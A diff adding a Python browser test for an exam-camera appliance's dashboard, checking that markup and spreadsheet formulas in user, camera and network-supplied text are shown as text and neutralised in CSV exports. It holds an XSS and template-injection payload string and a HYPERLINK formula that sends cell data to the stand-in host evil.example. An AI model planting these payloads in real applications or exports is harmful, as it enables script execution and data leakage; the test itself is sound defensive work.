@@ -1,0 +1,265 @@
+"""Markup and formulas in every string a person, a camera or a neighbour can give: shown as text on every page."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import threading
+from dataclasses import dataclass
+from types import SimpleNamespace
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from werkzeug.serving import make_server
+
+from appliance import auditlog
+from appliance.auditlog.actions import ACTIONS
+from appliance.cameras.events import record_event
+from appliance.cameras.model import Camera
+from appliance.cameras.store import add_camera
+from appliance.clock import SystemClock
+from appliance.config import BoxSettings, PathSettings, Settings
+from appliance.database import open_box_database, write
+from appliance.vault.holds import place_hold
+from appliance.vault.keys import add_recipient, init_keys
+from appliance.vault.recipients import make_recipient
+from appliance.web.account import passwords, sessions
+from appliance.web.account.accounts import create_account
+from appliance.web.app import create_app
+from appliance.web.asking import speech_of
+from appliance.web.lan.announcement import SERVICE, neighbour
+from appliance.web.review import bookmarks
+from appliance.web.services import of
+from tests.journeys.conftest import chromium
+from tests.journeys.crawl import pages
+from tests.vault.recorded import WALL_US, Recorder, clock_at, movie
+from tests.web.conftest import StandInCapture, StandInKeyring
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from flask import Flask
+    from playwright.sync_api import Page
+    from sqlite_utils import Database
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]
+
+MARK = """'"><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}"""
+FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
+ROLES = ("administrator", "reviewer", "auditor", "invigilator")
+
+# Every text column of the database that holds what somebody typed or sent, filled with markup past all checks.
+GIVEN = {
+    "camera": ("name", "purpose", "lawful_basis", "retention_reason"),
+    "recording_wish": ("wished_by", "stopped_by"),
+    "camera_event": ("detail",),
+    "legal_hold": ("reason", "placed_by", "released_by", "release_reason"),
+    "account": ("name", "email"),
+    "web_session": ("address", "browser"),
+    "log_personal": ("value",),
+    "part_deletion": ("rule", "applied_by"),
+    "bookmark": ("note",),
+}
+# Those whose values the box itself chooses from a list, makes, or checks against `[a-z0-9-]` before it takes them.
+MADE = {
+    "_sqlite_migrations": ("migration_set", "name", "applied_at"),
+    "setting": ("key", "value"),
+    "camera": ("id", "role", "kind", "address", "masks"),
+    "recording_wish": ("sitting",),
+    "camera_event": ("camera", "state", "reason"),
+    "part": ("part_id", "sitting", "camera", "state"),
+    "legal_hold": ("sitting", "camera"),
+    "account": ("role", "password_hash"),
+    "one_time_password": ("purpose", "password_hash"),
+    "sign_in_failure": ("key",),
+    "log_personal": ("field",),
+    "part_deletion": ("part_id", "sitting", "camera", "file_state", "chain", "checkpoint_sha256"),
+    "recovery_code": ("selector", "code_hash"),
+    "password_reset": ("kind", "secret_hash"),
+    "bookmark": ("sitting", "camera"),
+}
+FOUND = """() => ({
+  ran: globalThis.pwned ?? null,
+  made: [...document.querySelectorAll(
+    'img[src="x"], [onerror], [onload], script:not([src]):not([type="application/json"])')]
+    .map((element) => element.outerHTML.slice(0, 200)),
+  links: [...document.querySelectorAll('[href], [src], [action]')]
+    .flatMap((element) => [element.getAttribute('href'), element.getAttribute('src'), element.getAttribute('action')])
+    .filter((address) => /^\\s*(javascript|data|vbscript):/i.test(address ?? '')),
+  evaluated: document.body.innerText.includes('</script>49'),
+  shown: document.body.innerText.includes('onerror=pwned=1'),
+})"""
+
+
+class Telling(StandInCapture):
+    """A capture process whose camera tells markup wherever it can tell a text."""
+
+    def status(self) -> dict[str, Any]:
+        """Say it all."""
+        texts = dict.fromkeys(("reason", "message", "hint", "alarm", "codecs", "name", "sitting"), MARK)
+        camera = {**texts, "camera": "front", "role": "room", "state": "lost", "recording": True, "since_us": WALL_US}
+        return {
+            "ok": True,
+            "cameras": [camera],
+            "disk": {"state": "stop", "stopped": True, "total": 100, "free": 1, "failures": [MARK], "message": MARK},
+            "sitting": MARK,
+            "clock": {"trusted": False, "message": MARK},
+        }
+
+
+@dataclass
+class Box:
+    """The dashboard, served, with markup in everything."""
+
+    app: Flask
+    db: Database
+    address: str
+
+    def enter(self, page: Page, role: str) -> None:
+        """Give the browser a session of the person of a role."""
+        account = self.db.conn.execute("SELECT id FROM account WHERE role = ?", (role,)).fetchone()[0]
+        token = sessions.open_session(self.db, account, address=MARK, clock=SystemClock(), browser=MARK)
+        cookie = {
+            "name": "exambox_session",
+            "value": token,
+            "url": self.address,
+            "httpOnly": True,
+            "sameSite": "Strict",
+        }
+        page.context.add_cookies([cookie])  # type: ignore[list-item]  # Playwright's own typed dictionary
+
+
+@pytest.fixture(scope="module")
+def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
+    """The box; hashing is real, nobody signs in with a password."""
+    folder = tmp_path_factory.mktemp("marked")
+    settings = Settings(
+        box=BoxSettings(trial=True, room=MARK), paths=PathSettings(state=str(folder / "state"), run=str(folder / "run"))
+    )
+    db = open_box_database(settings.database)
+    furnish(settings, db)
+    app = create_app(settings, SystemClock(), live=Telling(), keyring=StandInKeyring())
+    heard = neighbour(
+        f"{MARK}.{SERVICE}", MARK, 8443, [MARK, "192.0.2.7"], {b"version": MARK.encode(), b"box": MARK.encode()}
+    )
+    app.extensions["exambox-announcer"] = SimpleNamespace(heard=lambda: [heard])
+    server = make_server("127.0.0.1", 0, app, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield Box(app, db, f"http://127.0.0.1:{server.server_port}")
+    of(app).stopping.set()
+    server.shutdown()
+    of(app).jobs.close()
+    of(app).keeper.conn.close()
+    db.conn.close()
+
+
+def furnish(settings: Settings, db: Database) -> None:
+    """Make one of everything, then put markup into all of it."""
+    clock = SystemClock()
+    init_keys(settings, passphrase=None, clock=clock)
+    from appliance.vault.crypto import generate_private, public_of
+
+    suite = settings.vault.suite
+    public = public_of(suite, generate_private(suite))
+    add_recipient(
+        settings.keys_dir, make_recipient(suite=suite, public=public, label=MARK, role="auditor"), clock=clock
+    )
+    Recorder(settings.vault_dir, clock_at()).part(movie(1))
+    for role in ROLES:
+        create_account(db, role.title(), role, "Quiet-Room-42!", clock=clock, who="test", email=f"{role}@example.org")
+    account = db.conn.execute("SELECT id FROM account WHERE role = 'reviewer'").fetchone()[0]
+    add_camera(db, Camera(id="front", name="Front", role="room", kind="pattern", address="64x48@5",
+                          retention_hours=100, retention_reason="x"), None, clock=clock, who="test")  # fmt: skip
+    record_event(db, "front", "lost", "silent", "x", clock=clock)
+    with write(db):
+        db.conn.execute(
+            "INSERT INTO part (part_id, sitting, camera, number, started_us, ended_us, state)"
+            " VALUES ('a', 'exam', 'front', 1, ?, ?, 'closed')",
+            (WALL_US, WALL_US + 1_000_000),
+        )
+    place_hold(db, "exam", None, reason="because", clock=clock, who="test")
+    bookmarks.add_bookmark(db, "exam", bookmarks.Marking(WALL_US, None, None, "x"), account=account, clock=clock)
+    for action in ACTIONS:
+        detail = dict.fromkeys(("sitting", "camera", "reason", "name", "role", "count", "label", "from", "to"), MARK)
+        for text in (MARK, FORMULA):
+            auditlog.append(db, action, clock=clock, who=text, where=text, detail=detail, personal={"account": text})
+    fill(db)
+
+
+def fill(db: Database) -> None:
+    """Put markup into every given column, past every check; where names must differ, they end differently."""
+    with write(db):
+        for table, columns in GIVEN.items():
+            for column in columns:
+                kept = " AND value NOT LIKE '=%'" if table == "log_personal" else ""
+                db.conn.execute(
+                    f"UPDATE {table} SET {column} = ? || rowid WHERE {column} IS NOT NULL{kept}",  # noqa: S608  names of ours
+                    (MARK,),
+                )
+
+
+def test_every_text_column_is_given_or_made(box: Box) -> None:
+    """A new text column is put into one of the two lists, so that what people type is tried here."""
+    known = {(table, column) for columns in (GIVEN, MADE) for table, names in columns.items() for column in names}
+    found = {
+        (table.name, column.name)
+        for table in box.db.tables
+        for column in table.columns
+        if column.type.upper() == "TEXT"
+    }
+    assert found == known
+
+
+@pytest.mark.parametrize("role", ROLES)
+def test_no_page_takes_text_for_markup(box: Box, tmp_path: Path, role: str) -> None:
+    """Walk every page as each role: no script runs, no element is made, no link is one that runs; the text is shown."""
+    shown: list[str] = []
+    starts = ("/", "/recordings/exam", "/admin/users/1", "/admin/users/2", "/certificate", "/forgotten")
+    with chromium(tmp_path) as page:  # a breach of the policy fails it
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        box.enter(page, role)
+        for endpoint, path in pages(page, box.address, box.app.url_map, starts=starts):
+            page.wait_for_function("() => !document.querySelector('main [aria-busy=true]')", timeout=15_000)
+            found = page.evaluate(FOUND)
+            shown += [endpoint] if found.pop("shown") else []
+            assert found == {"ran": None, "made": [], "links": [], "evaluated": False}, path
+        assert dialogs == []
+    assert len(shown) >= {"administrator": 10, "invigilator": 2}.get(role, 3), shown
+
+
+def test_tables_taken_away_hold_no_formula_and_json_no_markup(box: Box) -> None:
+    """No cell of a CSV file begins like a formula; JSON is JSON, whatever it carries."""
+    client = box.app.test_client()
+    account = box.db.conn.execute("SELECT id FROM account WHERE role = 'administrator'").fetchone()[0]
+    client.set_cookie("exambox_session", sessions.open_session(box.db, account, address="x", clock=SystemClock()))
+    kinds = {
+        rule.rule: (speech.answer if isinstance(speech.answer, str) else "application/json")
+        for rule in box.app.url_map.iter_rules()
+        if (speech := speech_of(box.app.view_functions[rule.endpoint])) and "GET" in (rule.methods or ())
+    }
+    tables = [path for path, kind in kinds.items() if kind == "text/csv" and "<" not in path]
+    assert len(tables) >= 2
+    formulas = 0
+    for path in tables:
+        answer = client.get(path)
+        assert answer.status_code == 200, path
+        assert answer.headers["Content-Disposition"].startswith("attachment")
+        for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))):
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+            formulas += sum("HYPERLINK" in cell for cell in row)
+    assert formulas, "there was something to make harmless"
+    for path, kind in kinds.items():
+        if kind == "application/json" and "<" not in path:
+            answer = client.get(path, headers={"Accept": "application/json"})
+            assert answer.content_type.startswith(("application/json", "application/problem+json")), path
+            json.loads(answer.text)
+
+
+@pytest.fixture(autouse=True)
+def _cheap_hashing() -> None:
+    """Accounts are made once, for the module: hashing stays as it is."""
+    assert passwords.MIN_LENGTH
